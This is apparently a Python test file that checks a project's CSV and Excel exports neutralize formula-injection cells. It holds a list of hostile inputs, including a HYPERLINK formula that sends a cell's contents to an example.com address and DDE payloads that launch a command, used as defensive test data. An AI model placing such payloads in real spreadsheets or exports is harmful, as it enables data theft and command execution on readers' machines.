"""No CSV or Excel file that Concerto writes holds a cell a spreadsheet would run as a formula."""

import csv
import datetime
import io
import re
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from concerto.core.spreadsheets import FORMULA_TRIGGERS, csv_writer, neutralize, put, workbook_bytes
from concerto.reports.formats import render_one

from .factories import (
    ComponentProgressFactory,
    MeasureFactory,
    MeasureLeadFactory,
    PlanFactory,
    ProgressReportFactory,
    ThemeFactory,
)

ROOT = Path(__file__).resolve().parent.parent / "concerto"
AS_OF = datetime.date(2023, 3, 31)

HOSTILE = [
    '=HYPERLINK("http://example.com/vol?d="&A1;"Cliquez")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_text_starting_with_a_formula_trigger_is_neutralized_for_csv(trigger):
    assert neutralize(f"{trigger}1+1") == f"'{trigger}1+1"


@pytest.mark.parametrize("value", ["Texte ordinaire", "Mesure 13 = priorité", "", "a-b", "50 %"])
def test_ordinary_text_is_written_unchanged(value):
    assert neutralize(value) == value


@pytest.mark.parametrize("value", [-3, 2.5, 0, datetime.date(2023, 3, 31), True, None])
def test_numbers_dates_and_booleans_keep_their_type(value):
    assert neutralize(value) is value


def test_csv_writer_neutralizes_every_cell_of_a_row():
    stream = io.StringIO()
    csv_writer(stream).writerow(["=1+1", 42, "ok", "@x"])
    assert next(csv.reader(io.StringIO(stream.getvalue()))) == ["'=1+1", "42", "ok", "'@x"]


@pytest.mark.parametrize("value", HOSTILE)
def test_excel_cell_with_formula_like_text_is_text_with_quote_prefix(value):
    workbook = Workbook()
    put(workbook.active, 1, 1, value)
    put(workbook.active, 1, 2, -4)
    sheet = load_workbook(io.BytesIO(workbook_bytes(workbook, day=AS_OF))).active
    cell = sheet.cell(row=1, column=1)
    assert cell.data_type == "s"
    assert cell.value == value  # the text itself is kept as typed
    assert cell.quotePrefix is True
    assert sheet.cell(row=1, column=2).value == -4
    assert sheet.cell(row=1, column=2).data_type == "n"


@pytest.fixture
def hostile_plan(db):
    """A plan whose partner-typed texts are all formula-like."""
    plan = PlanFactory(declared_measure_count=1)
    theme = ThemeFactory(plan=plan, number=1)
    measure = MeasureFactory(plan=plan, theme=theme, number=1)
    MeasureLeadFactory(measure=measure)
    report = ProgressReportFactory(measure=measure, as_of=AS_OF, narrative=HOSTILE[0], percent=40)
    for label in HOSTILE[1:4]:
        ComponentProgressFactory(report=report, label=label, narrative=label)
    return plan


def test_status_csv_export_has_no_formula_cell(hostile_plan):
    rendered = render_one(hostile_plan, AS_OF, "csv")
    rows = list(csv.reader(io.StringIO(rendered.content.decode("utf-8"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    assert f"'{HOSTILE[0]}" in cells
    assert "'-2+3" in cells
    assert "40" in cells  # the percentage is still a plain number


def test_status_xlsx_report_has_no_formula_cell(hostile_plan):
    rendered = render_one(hostile_plan, AS_OF, "xlsx")
    workbook = load_workbook(io.BytesIO(rendered.content))
    cells = [
        cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None
    ]
    assert not [cell for cell in cells if cell.data_type == "f"]
    hostile = [
        cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS)
    ]
    assert {cell.value for cell in hostile} >= {HOSTILE[0], "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"}
    assert all(cell.quotePrefix for cell in hostile)


def test_only_the_shared_writer_writes_csv_rows_or_excel_cells():
    """Every CSV and Excel export goes through concerto.core.spreadsheets."""
    offenders = []
    writers = re.compile(r"csv\.(writer|DictWriter)\(|\.cell\([^)]*value=")
    sheets = re.compile(r"(\w+) = \w+\.(?:active|create_sheet\()")
    for path in ROOT.rglob("*.py"):
        # The pseudonymization script runs at the orders, with the standard library only.
        if path.name == "spreadsheets.py" or {"migrations", "static_scripts"} & set(path.parts):
            continue
        text = path.read_text(encoding="utf-8")
        found = list(writers.finditer(text))
        # Worksheet.append: on the usual names of a sheet, or a name given a sheet.
        names = {"ws", "sheet", "worksheet"} | set(sheets.findall(text))
        alternatives = "|".join(map(re.escape, names))
        found += re.finditer(rf"\b(?:{alternatives})\.append\(", text)
        offenders += [f"{path.relative_to(ROOT)}: {m.group(0)}" for m in found]
    assert offenders == []
